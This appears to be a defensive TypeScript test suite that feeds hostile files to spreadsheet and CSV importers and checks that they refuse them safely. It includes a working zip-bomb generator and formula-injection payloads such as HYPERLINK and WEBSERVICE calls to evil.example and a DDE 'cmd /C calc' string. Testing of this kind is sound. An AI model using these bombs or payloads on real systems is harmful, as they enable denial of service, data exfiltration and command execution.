// Hostile and broken files fed to the shared reader and to the importers (signals, counterparties, outlets): each gets
// a clear Russian error, in bounded time and memory, and changes nothing in the store.
import * as fs from 'node:fs';
import * as path from 'node:path';
import { crc32, deflateRawSync } from 'node:zlib';
import iconv from 'iconv-lite';
import * as XLSX from 'xlsx';
import Database from 'better-sqlite3';
import { beforeEach, describe, expect, it } from 'vitest';
import { createRandom } from '../../../core/demo/random';
import { readTable } from '../../../core/import/table';
import { readZipDirectory } from '../../../core/import/limits';
import { testCore, type TestCore } from '../../helpers/core';
import { TEMPLATES_DIR, xlsxBytes, type FileInput } from './files';

// ---- file builders -------------------------------------------------------------------------------------------------

interface Part {
  name: string;
  /** Raw deflate data and the sizes to declare (a lying bomb declares less than it inflates to). */
  deflated: Uint8Array;
  declaredSize: number;
  crc: number;
}

const part = (name: string, content: string | Buffer): Part => {
  const buf = typeof content === 'string' ? Buffer.from(content, 'utf8') : content;
  return { name, deflated: deflateRawSync(buf, { level: 1 }), declaredSize: buf.length, crc: crc32(buf) };
};

/** A ZIP (deflate) of the given parts, written by hand so sizes can be declared at will. */
function zip(parts: Part[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const p of parts) {
    const name = Buffer.from(p.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(p.crc >>> 0, 14);
    local.writeUInt32LE(p.deflated.length, 18);
    local.writeUInt32LE(Math.min(p.declaredSize, 0xffffffff), 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(p.crc >>> 0, 16);
    central.writeUInt32LE(p.deflated.length, 20);
    central.writeUInt32LE(Math.min(p.declaredSize, 0xffffffff), 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, Buffer.from(p.deflated));
    centrals.push(central, name);
    offset += 30 + name.length + p.deflated.length;
  }
  const cd = Buffer.concat(centrals);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(parts.length, 8);
  eocd.writeUInt16LE(parts.length, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, eocd]);
}

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`;
const ROOT_RELS = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`;
const WORKBOOK = `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Лист1" sheetId="1" r:id="rId1"/></sheets></workbook>`;
const WB_RELS = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`;

/** A minimal XLSX around a given sheet part. */
function workbookWith(sheet: Part): Buffer {
  return zip([part('[Content_Types].xml', CONTENT_TYPES), part('_rels/.rels', ROOT_RELS), part('xl/workbook.xml', WORKBOOK), part('xl/_rels/workbook.xml.rels', WB_RELS), sheet]);
}

const SHEET_HEAD = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
const SHEET_TAIL = '</sheetData></worksheet>';
const inlineCell = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;

/**
 * Raw deflate of `total` spaces built bit by bit with fixed Huffman codes: one literal, then length-258/distance-1
 * copies (13 bits each). 1 GB comes out at ≈ 6.5 MB in a blink, where a real compressor would take a minute.
 */
function spacesDeflate(total: number): Uint8Array {
  const copies = Math.floor((total - 1) / 258);
  const out = new Uint8Array(Math.ceil((3 + 8 + copies * 13 + 7 + 7) / 8) + 1);
  let bitPos = 0;
  const lsb = (value: number, n: number) => {
    for (let i = 0; i < n; i++, bitPos++) if ((value >> i) & 1) out[bitPos >> 3] |= 1 << (bitPos & 7);
  };
  const huff = (code: number, n: number) => {
    for (let i = n - 1; i >= 0; i--, bitPos++) if ((code >> i) & 1) out[bitPos >> 3] |= 1 << (bitPos & 7);
  };
  lsb(1, 1); // final block
  lsb(1, 2); // fixed Huffman
  huff(0x30 + 0x20, 8); // literal ' '
  for (let i = 0; i < copies; i++) {
    huff(0xc0 + 5, 8); // length code 285 = 258
    huff(0, 5); // distance code 0 = 1
  }
  huff(0, 7); // end of block
  return out.subarray(0, (bitPos + 7) >> 3);
}

const b64 = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64');
const file = (fileName: string, bytes: Uint8Array): FileInput => ({ fileName, contentBase64: b64(bytes) });
const GB = 1024 * 1024 * 1024;

// ---- the store the importers run against ---------------------------------------------------------------------------

const TABLES = ['counterparties', 'outlets', 'visits', 'signals', 'import_batches', 'contract_months', 'skus'];
/** Every row of the tables an import may touch, as sorted JSON (some tables have no rowid to order by). */
function snapshot(store: TestCore): Record<string, string[]> {
  const db = new Database(store.dbPath, { readonly: true });
  try {
    return Object.fromEntries(TABLES.map((name) => [name, (db.prepare(`SELECT * FROM ${name}`).raw().all() as unknown[]).map((r) => JSON.stringify(r)).sort()]));
  } finally {
    db.close();
  }
}

const IMPORTERS = ['signals.importFile', 'counterparties.importFile', 'outlets.importFile'] as const;

let t: TestCore;
let call: (name: string, input?: unknown) => ReturnType<TestCore['core']['invoke']>;

beforeEach(async () => {
  t = testCore([{ login: 'boss', roles: ['admin', 'assistant', 'finance', 'manager', 'legal'] }]);
  call = t.as(await t.signIn('boss'));
  // Real master data first, so "changes nothing" is checked against tables that hold rows.
  for (const [cmd, name] of [['counterparties.importFile', 'counterparties.xlsx'], ['outlets.importFile', 'outlets.xlsx']] as const) {
    const env = await call(cmd, { fileName: name, contentBase64: fs.readFileSync(path.join(TEMPLATES_DIR, name)).toString('base64'), mode: 'commit' });
    expect(env.ok && (env.data as { committed: boolean }).committed, name).toBe(true);
  }
});

/** Runs every importer on the file in commit mode; each must refuse with a Russian message matching `reason`. */
async function refusedEverywhere(input: FileInput, reason: RegExp, maxMs = 5000): Promise<void> {
  const before = snapshot(t);
  for (const cmd of IMPORTERS) {
    const started = performance.now();
    const env = await call(cmd, { ...input, mode: 'commit' });
    const ms = performance.now() - started;
    expect(env.ok, `${cmd} accepted ${input.fileName}`).toBe(false);
    if (!env.ok) {
      expect(env.error.code, cmd).toBe('validation');
      expect(env.error.message, cmd).toMatch(reason);
      expect(env.error.message, cmd).toMatch(/[А-Яа-яЁё]/);
    }
    expect(ms, `${cmd} took ${Math.round(ms)} ms`).toBeLessThan(maxMs);
  }
  expect(snapshot(t)).toEqual(before);
}

// ---- the cases -----------------------------------------------------------------------------------------------------

describe('hostile import files', () => {
  it('a truncated XLSX', async () => {
    const whole = fs.readFileSync(path.join(TEMPLATES_DIR, 'visits.xlsx'));
    for (const cut of [0.3, 0.6, 0.95]) {
      await refusedEverywhere(file('visits.xlsx', whole.subarray(0, Math.floor(whole.length * cut))), /повреждён или обрезан/);
    }
  });

  it('a zip bomb declaring its size: refused on the declaration, before anything is inflated', async () => {
    const bomb = workbookWith({ name: 'xl/worksheets/sheet1.xml', deflated: spacesDeflate(GB), declaredSize: GB, crc: 0 });
    expect(bomb.length).toBeLessThan(8 * 1024 * 1024);
    expect(readZipDirectory(bomb)?.find((e) => e.name.endsWith('sheet1.xml'))?.uncompressedSize).toBe(GB);
    const heap = process.memoryUsage().heapUsed;
    await refusedEverywhere(file('bomb.xlsx', bomb), /zip-бомба/, 2000);
    expect(process.memoryUsage().heapUsed - heap).toBeLessThan(200 * 1024 * 1024);
  });

  it('a zip bomb lying about its size: inflation stops at the declared size', async () => {
    const liar = workbookWith({ name: 'xl/worksheets/sheet1.xml', deflated: spacesDeflate(GB), declaredSize: 4096, crc: 0 });
    await refusedEverywhere(file('liar.xlsx', liar), /больше заявленного размера/, 2000);
  });

  it('a 100 MB cell: refused by the cell limit (Excel’s 32 767 characters)', async () => {
    const huge = 'Ж'.repeat(50 * 1024 * 1024); // 100 MB of UTF-8
    const sheet = part('xl/worksheets/sheet1.xml', `${SHEET_HEAD}<row r="1">${inlineCell('A1', 'ИД визита')}${inlineCell('B1', 'Дата визита')}${inlineCell('C1', 'Код ТТ')}</row><row r="2">${inlineCell('A2', huge)}</row>${SHEET_TAIL}`);
    const bytes = workbookWith(sheet);
    expect(bytes.length).toBeLessThan(2 * 1024 * 1024);
    await refusedEverywhere(file('huge-cell.xlsx', bytes), /ячейка длиной около 52[\s\u00a0]428[\s\u00a0]\d{3} символов/, 10_000);
    // The same in a CSV, through the reader (an upload that big is refused by the size limit before it is read).
    expect(() => readTable(Buffer.from(`a;b\n1;${'x'.repeat(40_000)}\n`), 'long.csv')).toThrow(/допустимо до 32[\s\u00a0]767/);
    const tooBig = await call('signals.importFile', { fileName: 'big.csv', contentBase64: 'A'.repeat(70_000_001), mode: 'commit' });
    expect(!tooBig.ok && tooBig.error.message).toMatch(/Файл слишком большой/);
  }, 60_000);

  it('binary garbage named .csv', async () => {
    const rnd = createRandom(10).next;
    const bytes = new Uint8Array(64 * 1024).map(() => Math.floor(rnd() * 256));
    await refusedEverywhere(file('visits.csv', bytes), /не текстовый файл CSV/);
    // A PNG renamed to .xlsx is refused by content, not by name.
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from(bytes.subarray(0, 1000))]);
    await refusedEverywhere(file('visits.xlsx', png), /не книга Excel/);
  });

  it('wrong encodings: text in KOI8-R or DOS (cp866) is read without crashing and refused for its unreadable headers', async () => {
    const text = 'ИД визита;Дата визита;Код ТТ\r\nV-1;01.11.2026;TT-1\r\n';
    const before = snapshot(t);
    for (const encoding of ['koi8-r', 'cp866']) {
      for (const cmd of IMPORTERS) {
        const env = await call(cmd, { fileName: 'visits.csv', contentBase64: b64(iconv.encode(text, encoding)), mode: 'commit' });
        // Decoded as windows-1251 the headers are gibberish: the import reports the missing columns and commits nothing.
        if (env.ok) {
          const r = (env as { data: unknown }).data as { committed: boolean; errors: { reason: string }[] };
          expect(r.committed, `${cmd} ${encoding}`).toBe(false);
          expect(r.errors[0].reason).toMatch(/нет обязательной колонки/);
        } else {
          expect(env.error.message).toMatch(/Не удалось прочитать файл/);
        }
      }
    }
    const after = snapshot(t);
    expect(after.visits).toEqual(before.visits);
    expect(after.counterparties).toEqual(before.counterparties);
    expect(after.outlets).toEqual(before.outlets);
  });

  it('formula cells: the cached value is taken, nothing is ever evaluated', () => {
    const ws = XLSX.utils.aoa_to_sheet([['Код', 'Имя', 'Сумма']], { dense: true });
    XLSX.utils.sheet_add_aoa(ws, [[
      { t: 's', v: 'K-1', f: 'HYPERLINK("http://evil.example/?"&A1,"K-1")' },
      { t: 's', v: 'ООО «Кеш»', f: 'WEBSERVICE("http://evil.example")' },
      { t: 'n', v: 42, f: '40+2' },
    ], [
      { t: 's', v: 'K-2' },
      // A formula saved without a cached value (e.g. by a generator) reads as empty, not as the formula's text.
      { t: 'z', f: 'CMD|\' /C calc\'!A0' },
      { t: 'n', f: '1+1' },
    ]], { origin: 'A2' });
    const wb = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(wb, ws, 'Лист1');
    const bytes = new Uint8Array(XLSX.write(wb, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer);
    expect(readTable(bytes, 'formulas.xlsx')).toEqual({
      headers: ['Код', 'Имя', 'Сумма'],
      rows: [
        { rowNo: 2, cells: ['K-1', 'ООО «Кеш»', '42'] },
        { rowNo: 3, cells: ['K-2', '', ''] },
      ],
    });
  });

  it('a million empty rows after the data: read up to the last non-empty row, quickly', async () => {
    const rows: string[] = [`<row r="1">${inlineCell('A1', 'ИД визита')}${inlineCell('B1', 'Дата визита')}${inlineCell('C1', 'Код ТТ')}</row>`];
    rows.push(`<row r="2">${inlineCell('A2', 'V-1')}${inlineCell('B2', '31.02.2026')}${inlineCell('C2', 'TT-NONE')}</row>`);
    // Formatting dragged to the bottom of the sheet: a million rows with styled empty cells.
    for (let r = 3; r <= 1_000_002; r++) rows.push(`<row r="${r}"><c r="A${r}" s="0"/></row>`);
    const bytes = workbookWith(part('xl/worksheets/sheet1.xml', SHEET_HEAD + rows.join('') + SHEET_TAIL));
    let started = performance.now();
    expect(readTable(bytes, 'empty-rows.xlsx').rows).toEqual([{ rowNo: 2, cells: ['V-1', '31.02.2026', 'TT-NONE'] }]);
    // The empty tail is cut off before parsing (≈ 3 s on a loaded 2-core box; 28 s when the reader had to walk it).
    expect(performance.now() - started).toBeLessThan(15_000);
    started = performance.now();
    // The same as CSV: blank lines and lines of bare delimiters.
    const csv = Buffer.from('ИД визита;Дата визита;Код ТТ\r\nV-1;31.02.2026;TT-NONE\r\n' + '\r\n;;\r\n'.repeat(500_000));
    const before = snapshot(t);
    const env = await call('signals.importFile', { fileName: 'empty-rows.csv', contentBase64: b64(csv), mode: 'commit' });
    expect(env.ok).toBe(true);
    const r = (env as { data: unknown }).data as { rowsRead: number; committed: boolean; errors: { row: number; reason: string }[] };
    expect(performance.now() - started).toBeLessThan(10_000);
    expect(r.rowsRead).toBe(1);
    expect(r.committed).toBe(false);
    expect(snapshot(t)).toEqual(before);
  }, 90_000);

  it('impossible dates like 31.02.2026 are row errors with the row number; nothing is written', async () => {
    const csv = 'ИД визита;Дата визита;Код ТТ\r\nV-1;31.02.2026;TT-1\r\nV-2;29.02.2026;TT-1\r\nV-3;00.01.2026;TT-1\r\n';
    const before = snapshot(t);
    const env = await call('signals.importFile', { fileName: 'dates.csv', contentBase64: b64(Buffer.from(csv)), mode: 'commit' });
    expect(env.ok).toBe(true);
    const r = (env as { data: unknown }).data as { committed: boolean; errors: { row: number; column: string; value: string; reason: string }[] };
    expect(r.committed).toBe(false);
    const dateErrors = r.errors.filter((e) => e.column === 'Дата визита');
    expect(dateErrors.map((e) => [e.row, e.value])).toEqual([[2, '31.02.2026'], [3, '29.02.2026'], [4, '00.01.2026']]);
    expect(dateErrors[0].reason).toMatch(/Неверная дата/);
    expect(snapshot(t)).toEqual(before);
  });

  it('the error report neutralises formulas that came from the file', async () => {
    const csv = 'ИД визита;Дата визита;Код ТТ\r\nV-1;=HYPERLINK("http://evil.example","жми");TT-1\r\n';
    const env = await call('signals.importFile', { fileName: 'inject.csv', contentBase64: b64(Buffer.from(csv)), mode: 'preview' });
    expect(env.ok).toBe(true);
    const report = ((env as { data: unknown }).data as { reportXlsxBase64: string }).reportXlsxBase64;
    const wb = XLSX.read(Buffer.from(report, 'base64'), { type: 'buffer', cellFormula: true });
    const ws = wb.Sheets[wb.SheetNames[0]];
    const cells = Object.entries(ws).filter(([k]) => !k.startsWith('!')).map(([, c]) => c as XLSX.CellObject);
    expect(cells.some((c) => c.f !== undefined)).toBe(false);
    expect(cells.map((c) => c.v)).toContain('\'=HYPERLINK("http://evil.example","жми")');
  });
});

describe('xlsx writers stay readable', () => {
  it('a normal workbook still passes the zip checks', () => {
    expect(readTable(xlsxBytes([['a', 'b'], ['1', '2']]), 'ok.xlsx').rows).toEqual([{ rowNo: 2, cells: ['1', '2'] }]);
  });
});
